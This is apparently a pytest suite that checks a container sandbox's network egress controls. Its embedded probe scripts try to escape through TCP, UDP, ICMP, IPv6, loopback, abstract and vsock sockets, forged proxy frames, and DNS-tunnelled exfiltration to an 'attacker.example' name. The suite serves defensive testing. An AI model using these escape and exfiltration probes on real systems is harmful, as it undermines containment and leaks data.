"""While something is let out, a command tries every other way, and the way itself."""

from dataclasses import dataclass, field

import pytest

from orchestrator.schema.way_out import WayOut
from tests.support.boxes import PROBE_HEAD
from tests.support.host_listeners import host_listeners

pytestmark = pytest.mark.docker

WAY = WayOut("", transparent_ports=(80, 443))

FORCE = """
def reach(family, address):
    def act():
        with socket.socket(family, socket.SOCK_STREAM) as tcp:
            tcp.settimeout(3)
            tcp.connect(address)
    return act

def throw(family, address, kind=socket.SOCK_DGRAM, protocol=0):
    def act():
        with socket.socket(family, kind, protocol) as udp:
            udp.sendto(b"from the box", address)
    return act

for host in ADDRESSES:
    tried(f"tcp-{host}", reach(socket.AF_INET, (host, PORT)))
    tried(f"udp-{host}", throw(socket.AF_INET, (host, PORT)))
    tried(f"dns-{host}", throw(socket.AF_INET, (host, 53)))
    tried(f"ping-{host}", throw(socket.AF_INET, (host, 0), socket.SOCK_RAW, 1))
    tried(f"ping-dgram-{host}", throw(socket.AF_INET, (host, 0), socket.SOCK_DGRAM, 1))
    tried(f"mapped-{host}", reach(socket.AF_INET6, (f"::ffff:{host}", PORT)))
tried("tcp6", reach(socket.AF_INET6, ("fe80::1", PORT)))
tried("udp6", throw(socket.AF_INET6, ("ff02::1", PORT)))
tried("loopback", reach(socket.AF_INET, ("127.0.0.1", PORT)))
tried("loopback2", reach(socket.AF_INET, ("127.1.2.3", PORT)))
tried("loopback-udp", throw(socket.AF_INET, ("127.0.0.1", PORT)))
tried("abstract", reach(socket.AF_UNIX, "\\0" + ABSTRACT))
tried("vsock", reach(40, (2, PORT)))
tried("packet", throw(17, ("lo", 0x800), socket.SOCK_RAW))
tried("socket-directory", lambda: os.listdir("/glove"))
tried("proxy", reach(socket.AF_INET, ("127.0.0.1", 3128)))
"""

NAMES = """
import struct
def name_of(text):
    return b"".join(bytes([len(part)]) + part for part in text.encode().split(b".")) + b"\\0"
def ask(text, kind=1, flags=0x0100, extra=b""):
    question = struct.pack("!HHHHHH", 1, flags, 1, 0, 0, 0) + name_of(text) + struct.pack("!HH", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.settimeout(5)
        udp.connect(("127.0.0.1", 53))
        udp.send(question + extra)
        answer = udp.recv(2048)
        return answer[3] & 15, answer[7]
for kind in (1, 28, 16, 15, 33, 65, 255, 252):
    print(f"stolen-{kind}", *ask("c2VjcmV0.attacker.example", kind))
print("known-1", *ask("known.example"))
print("known-16", *ask("known.example", 16))
print("update", *ask("known.example", 6, 0x2800))
"""

DOORS = """
import time
def through(address, words=b"GET / HTTP/1.1\\r\\n\\r\\n"):
    def act():
        with socket.create_connection(address, 5) as tcp:
            tcp.sendall(words)
            return tcp.recv(100)
    return act
address = socket.gethostbyname("known.example")
print("address", address)
tried("by-name", through(("known.example", 80)))
tried("by-address", through((address, 443)))
tried("other-port", through((address, 22)))
tried("next-address", through(("127.64.0.9", 80)))
# What would be frames of the box's wire, for a stream that is not this one's.
frames = b"".join(struct.pack("!IIB", 2, 0x80000000 + n, kind) + b"{}" for n in range(3) for kind in (6, 8, 9, 11, 12))
tried("frames", through(("127.0.0.1", 3128), frames))
"""


@dataclass
class Heard:
    """An Outside that keeps all that reaches it."""

    incoming: list = field(default_factory=list)
    words: list = field(default_factory=list)
    names: list = field(default_factory=list)

    async def serve(self, incoming, stream):
        self.incoming.append(incoming)
        self.words.append(await stream.receive())
        await stream.send(b"heard", last=True)
        await stream.close()

    async def knows(self, name, _caller):
        self.names.append(name)
        return name == "known.example"


def attacked(stage, body, outside):
    """Run a probe while the way is open and return what each attempt came to."""

    async def scene(scene):
        async with scene.box.let_out(WAY, outside):
            outcome = await scene.python(PROBE_HEAD + body + '\nprint("probe", "ended")\n')
            assert await scene.output("echo on") == "on\n"
        return outcome.data["head"] + outcome.data["tail"]

    text = stage.play(scene)
    found = dict(line.split(" ", 1) for line in text.splitlines() if " " in line)
    assert found.pop("probe", None) == "ended", text
    print("tried inside:", found)
    return found


def test_nothing_arrives_at_the_host_but_by_the_way_out(stage):
    """TCP, UDP, pings, IPv6, abstract sockets, other resolvers: with real listeners behind each."""
    outside = Heard()
    with host_listeners() as host:
        head = f"ADDRESSES, PORT, ABSTRACT = {host.addresses!r}, {host.port}, {host.abstract!r}\n"
        found = attacked(stage, head + FORCE, outside)
        assert host.heard() == []

    assert found.pop("proxy").startswith("WORKED")
    # A datagram to nobody on its own loopback is sent, and lost there.
    found.pop("loopback-udp")
    assert not [name for name, said in found.items() if said.startswith("WORKED")]
    assert {one.door for one in outside.incoming} <= {"proxy"}


def test_names_carry_nothing_out(stage):
    """The host is asked whether it knows a name, and no resolver is; no kind of record tells more."""
    outside = Heard()
    found = attacked(stage, NAMES, outside)

    assert {said for name, said in found.items() if name.startswith("stolen")} == {"3 0"}
    assert (found["known-1"], found["known-16"], found["update"]) == ("0 1", "0 0", "4 0")
    assert set(outside.names) == {"c2vjcmv0.attacker.example", "known.example"}


def test_doors_lead_only_to_who_is_outside(stage):
    """With the name that was asked for; bytes are bytes, whatever they look like."""
    outside = Heard()
    found = attacked(stage, NAMES.split("for kind", maxsplit=1)[0] + DOORS, outside)

    assert found.pop("address").startswith("127.64.")
    heard = "WORKED b'heard'"
    assert (found["by-name"], found["by-address"], found["frames"]) == (heard, heard, heard)
    assert found["other-port"] == found["next-address"] == "ECONNREFUSED"
    doors = [(one.door, one.host, one.port) for one in outside.incoming]
    assert doors == [
        ("transparent", "known.example", 80),
        ("transparent", "known.example", 443),
        ("proxy", "", 0),
    ]
    assert outside.words[2].startswith(b"\0\0\0\2\x80")
